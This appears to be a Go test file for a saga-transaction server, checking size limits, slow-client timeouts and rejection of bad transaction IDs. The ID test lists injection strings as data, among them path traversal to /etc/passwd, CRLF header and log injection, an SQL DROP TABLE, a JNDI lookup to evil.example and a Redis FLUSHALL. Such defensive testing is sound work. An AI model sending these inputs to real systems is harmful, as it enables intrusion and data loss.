package server

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"sagabench/internal/secret"
	"sagabench/internal/testkit"
	"sagabench/saga"
	"sagabench/saga/httpapi"
	"sagabench/store"
)

// submission is a body of dtm's submit; a later change overrides an earlier one.
func submission(changes ...map[string]any) string {
	body := map[string]any{
		"gid": "the-gid", "trans_type": "saga", "wait_result": true,
		"steps": []any{map[string]string{"action": "", "compensate": ""}}, "payloads": []string{""},
	}
	for _, change := range changes {
		for name, value := range change {
			body[name] = value
		}
	}
	text, err := json.Marshal(body)
	if err != nil {
		panic(err)
	}
	return string(text)
}

const submitPath = "/api/dtmsvr/submit"

func TestServer_RefusesWhatIsTooLarge(t *testing.T) {
	t.Parallel()
	s := testkit.OpenPebble(t)
	at := start(t, s, func(c *Config, _ *Deps) { c.Bench = false })
	many := func(n int) map[string]any {
		steps, payloads := make([]map[string]string, n), make([]string, n)
		return map[string]any{"steps": steps, "payloads": payloads}
	}
	action := func(url string) map[string]any {
		return map[string]any{"steps": []any{map[string]string{"action": url}}}
	}
	headers := map[string]string{}
	for i := range saga.MaxHeaders + 1 {
		headers[fmt.Sprint("X-", i)] = "x"
	}
	for name, tt := range map[string]struct {
		body   string
		status int
		says   string
	}{
		"body":           {strings.Repeat(" ", httpapi.MaxBodyBytes+1), http.StatusRequestEntityTooLarge, "body: more than"},
		"steps":          {submission(many(store.MaxSteps + 1)), http.StatusBadRequest, "steps: 1001"},
		"no steps":       {submission(many(0)), http.StatusBadRequest, "steps: 0"},
		"URL":            {submission(action("http://127.0.0.1/" + strings.Repeat("x", saga.MaxURLBytes))), http.StatusBadRequest, "action: "},
		"gid":            {submission(map[string]any{"gid": strings.Repeat("x", 65)}), http.StatusBadRequest, "gid"},
		"payload":        {submission(map[string]any{"payloads": []string{`"` + strings.Repeat("x", saga.MaxPayloadBytes) + `"`}}), http.StatusBadRequest, "payload: "},
		"headers":        {submission(map[string]any{"branch_headers": headers}), http.StatusBadRequest, "branch_headers"},
		"a long header":  {submission(map[string]any{"branch_headers": map[string]string{"X": strings.Repeat("x", saga.MaxHeaderBytes)}}), http.StatusBadRequest, "branch_headers"},
		"a split header": {submission(map[string]any{"branch_headers": map[string]string{"X": "x\r\nY: y"}}), http.StatusBadRequest, "branch_headers"},
		"custom data":    {submission(map[string]any{"custom_data": `{"x":"` + strings.Repeat("x", saga.MaxCustomBytes) + `"}`}), http.StatusBadRequest, "custom_data"},
		"no JSON":        {`{"gid":`, http.StatusBadRequest, "body: no valid JSON"},
	} {
		r := at.do(http.MethodPost, submitPath, tt.body)
		require.Equal(t, tt.status, r.status, name+": "+r.body)
		require.Contains(t, r.body, tt.says, name)
	}
	require.Zero(t, count(t, s))
	require.Equal(t, http.StatusOK, at.do(http.MethodPost, submitPath, submission(many(store.MaxSteps))).status)

	request := at.bare(http.MethodGet, "/healthz")
	request.Header.Set("X-Long", strings.Repeat("x", 32<<10))
	require.Equal(t, http.StatusRequestHeaderFieldsTooLarge, at.ask(request).status)
	require.Equal(t, http.StatusRequestHeaderFieldsTooLarge, at.ask(at.bare(http.MethodGet, "/"+strings.Repeat("x", 32<<10))).status)
}

// Bad gids are kept out of keys, log lines and headers.
func TestServer_RefusesGidsThatAreMore(t *testing.T) {
	t.Parallel()
	s := testkit.OpenPebble(t)
	at := start(t, s, func(c *Config, _ *Deps) { c.Bench, c.AdminTokens = false, secret.NewTokens(theAdminToken) })
	for _, gid := range []string{
		"", " ", "../../etc/passwd", "a/b", "a b", "{other}", "*", "x:y", "a\nlevel=ERROR msg=injected", "a\r\nX-Injected: 1",
		"'; DROP TABLE trans_global; --", "${jndi:ldap://evil.example}", "a\x00b", "ä", "\u202e", "<script>", "%0a", "gid?x=1", `a"b`, "redis.call('FLUSHALL')",
	} {
		text, err := json.Marshal(gid)
		require.NoError(t, err)
		for _, path := range []string{"submit", "abort", "forceStop", "resetNextCronTime"} {
			request, err := http.NewRequestWithContext(t.Context(), http.MethodPost, at.server.URL()+"/api/dtmsvr/"+path,
				strings.NewReader(submission(map[string]any{"gid": json.RawMessage(text)})))
			require.NoError(t, err)
			request.Header.Set("Authorization", "Bearer "+theAdminToken)
			r := at.ask(request)
			require.Equal(t, http.StatusBadRequest, r.status, "%s %q: %s", path, gid, r.body)
			require.Empty(t, r.header.Get("X-Injected"))
		}
	}
	require.Zero(t, count(t, s))
	require.NotContains(t, at.log.String(), "\nlevel=ERROR msg=injected")
}

func TestServer_CutsOffSlowClients(t *testing.T) {
	t.Parallel()
	at := start(t, testkit.OpenPebble(t), func(c *Config, _ *Deps) { c.Read = 2 * time.Second })
	address := strings.TrimPrefix(at.server.URL(), "http://")
	for name, sent := range map[string]string{
		"nothing":       "",
		"half a line":   "GET /hea",
		"half a header": "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
		"half a body":   "POST " + submitPath + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\n{",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			conn, err := net.Dial("tcp", address)
			require.NoError(t, err)
			defer conn.Close()
			_, err = io.WriteString(conn, sent)
			require.NoError(t, err)
			require.NoError(t, conn.SetReadDeadline(time.Now().Add(patience)))
			answer, err := io.ReadAll(conn) // until the server has closed it
			require.NoError(t, err)
			require.NotContains(t, string(answer), "200 OK")
		})
	}
}
